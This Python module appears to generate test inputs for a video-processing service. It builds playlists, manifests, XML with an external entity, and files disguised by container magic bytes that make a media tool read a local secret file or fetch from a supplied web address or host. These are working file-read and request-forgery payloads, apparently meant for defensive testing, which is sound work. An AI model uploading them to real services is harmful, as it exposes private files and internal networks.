"""Texts and files that refer to other files or addresses, disguised as a video by name or first bytes."""

from __future__ import annotations

import struct

_TS_PACKET = 188


def _box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(content), kind) + content


def _chunk(kind: bytes, content: bytes) -> bytes:
    return kind + struct.pack("<I", len(content)) + content + b"\0" * (len(content) % 2)


_FTYP = _box(b"ftyp", b"isom\0\0\2\0isomiso2avc1mp41")


def plain_texts(secret: str, web: str, datagrams: str) -> dict[str, bytes]:
    """Playlists and the like: `secret` is a file's path, `web` an http address, `datagrams` host:port."""
    host, port = datagrams.split(":")
    hls = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n"
    dash = '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
    dash += 'mediaPresentationDuration="PT9S">'
    texts = {
        "ffconcat": f"ffconcat version 1.0\nfile '{secret}'\n",
        "ffconcat_relative": "ffconcat version 1.0\nfile secret.mp4\n",
        "ffconcat_web": f"ffconcat version 1.0\nfile '{web}/a.mp4'\n",
        "ffconcat_mark": f"\ufeffffconcat version 1.0\nfile '{secret}'\n",
        "ffconcat_space": f"\n\n  ffconcat version 1.0\nfile '{secret}'\n",
        "ffconcat_option": f"ffconcat version 1.0\nfile '{secret}'\noption safe 0\nfile '{secret}'\n",
        "concat": f"file '{secret}'\nfile '{secret}'\n",
        "concat_protocol": f"concat:{secret}|{secret}\n",
        "subfile": f"subfile,,start,0,end,0,,:{secret}\n",
        "hls_file": f"{hls}#EXTINF:10,\nfile://{secret}\n#EXT-X-ENDLIST\n",
        "hls_relative": f"{hls}#EXTINF:10,\nsecret.mp4\n#EXT-X-ENDLIST\n",
        "hls_web": f"{hls}#EXTINF:10,\n{web}/a.ts\n#EXT-X-ENDLIST\n",
        "hls_key": f'{hls}#EXT-X-KEY:METHOD=AES-128,URI="{web}/key"\n#EXTINF:10,\nsecret.mp4\n#EXT-X-ENDLIST\n',
        "hls_map": f'{hls}#EXT-X-MAP:URI="{secret}"\n#EXTINF:10,\n{web}/b.mp4\n#EXT-X-ENDLIST\n',
        "hls_master": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{web}/inner.m3u8\n",
        "hls_concat": f"{hls}#EXTINF:10,\nconcat:{web}/x?|{secret}\n#EXT-X-ENDLIST\n",
        "m3u": f"#EXTM3U\n#EXTINF:1,a\n{web}/a.mp4\n",
        "sdp": f"v=0\no=- 0 0 IN IP4 {host}\ns=x\nc=IN IP4 {host}\nt=0 0\nm=video {port} RTP/AVP 96\n"
        "a=rtpmap:96 H264/90000\n",
        "dash_file": f"{dash}<Period><BaseURL>{secret}</BaseURL></Period></MPD>",
        "dash_web": f"{dash}<BaseURL>{web}/</BaseURL><Period><AdaptationSet><Representation id='1'>"
        f"<SegmentTemplate media='a$Number$.m4s' initialization='{web}/i.mp4' duration='1'/>"
        "</Representation></AdaptationSet></Period></MPD>",
        "dash_xlink": f'{dash}<Period xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{web}/p"/></MPD>',
        "smooth": f'<?xml version="1.0"?><SmoothStreamingMedia><StreamIndex Url="{web}/Q"/></SmoothStreamingMedia>',
        "smil": f'<smil><body><video src="{secret}"/></body></smil>',
        "asx": f'<asx version="3.0"><entry><ref href="{web}/a"/></entry></asx>',
        "asf_reference": f"[Reference]\nRef1={web}/a.asf\n",
        "pls": f"[playlist]\nFile1={web}/a.mp4\nNumberOfEntries=1\n",
        "xspf": f"<playlist><trackList><track><location>file://{secret}</location></track></trackList></playlist>",
        "ram": f"rtsp://{datagrams}/a.rm\n",
        "rtsp_text": f"RTSPtextrtsp://{datagrams}/a\n",
        "imf": f'<?xml version="1.0"?><CompositionPlaylist><Id>{secret}</Id></CompositionPlaylist>',
        "image_sequence": "secret%03d.png\n",
        "svg": f'<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{web}/a.png"/></svg>',
        "xml_entity": f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{secret}">]><MPD>&b;</MPD>',
        "vobsub": "# VobSub index file, v7\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 0\n",
        "lavfi": f"movie={secret}\n",
        "avisynth": f'AviSource("{secret}")\n',
    }
    return {name: text.encode() for name, text in texts.items()}


def disguised(secret: str, web: str, datagrams: str) -> dict[str, bytes]:
    """The texts with the first bytes of an accepted container, or inside one."""
    texts = plain_texts(secret, web, datagrams)
    hls, concat = texts["hls_file"], texts["ffconcat"]
    packets = b"".join(
        b"\x47\x40\0\x10" + concat.ljust(_TS_PACKET - 4, b"\n")[: _TS_PACKET - 4] for _ in range(8)
    )
    gab2 = b"GAB2\0\2\0\0\0\0\0\0\4\0" + struct.pack("<I", len(hls)) + hls
    return {
        "playlist_after_ftyp": _FTYP + b"\n" + concat,
        "playlist_in_mdat": _FTYP + _box(b"mdat", hls),
        "playlist_after_riff": b"RIFF" + struct.pack("<I", 400) + b"AVI \n" + concat,
        "playlist_after_ebml": b"\x1a\x45\xdf\xa3\x80\n" + hls,
        "playlist_after_flv": b"FLV\1\5\0\0\0\x09\0\0\0\0" + hls,
        "playlist_after_ogg": b"OggS\0\2" + bytes(20) + hls,
        "playlist_in_packets": packets,
        "playlist_after_pack": b"\0\0\1\xba" + concat,
        "reference_movie": _FTYP + _reference_movie(web),
        "reference_movie_file": _FTYP + _reference_movie("file://" + secret),
        "subtitle_playlist": _avi_with_subtitle(gab2),
    }


def _reference_movie(url: str) -> bytes:
    """A QuickTime movie that only contains a reference: moov/rmra/rmda/rdrf."""
    text = url.encode() + b"\0"
    pointer = _box(b"rdrf", b"\0\0\0\0url " + struct.pack(">I", len(text)) + text)
    return _box(b"moov", _box(b"rmra", _box(b"rmda", pointer)))


def _avi_with_subtitle(gab2: bytes) -> bytes:
    """An AVI whose only stream is a text stream that holds a playlist."""
    header = struct.pack("<10I", 40_000, 0, 0, 16, 1, 0, 1, 0, 64, 48) + bytes(16)
    stream = b"txts" + bytes(16) + struct.pack("<5I", 1, 25, 0, 1, 0) + bytes(20)
    streams = b"strl" + _chunk(b"strh", stream) + _chunk(b"strf", bytes(4))
    headers = b"hdrl" + _chunk(b"avih", header) + _chunk(b"LIST", streams)
    body = b"AVI " + _chunk(b"LIST", headers) + _chunk(b"LIST", b"movi" + _chunk(b"00tx", gab2))
    return _chunk(b"RIFF", body)
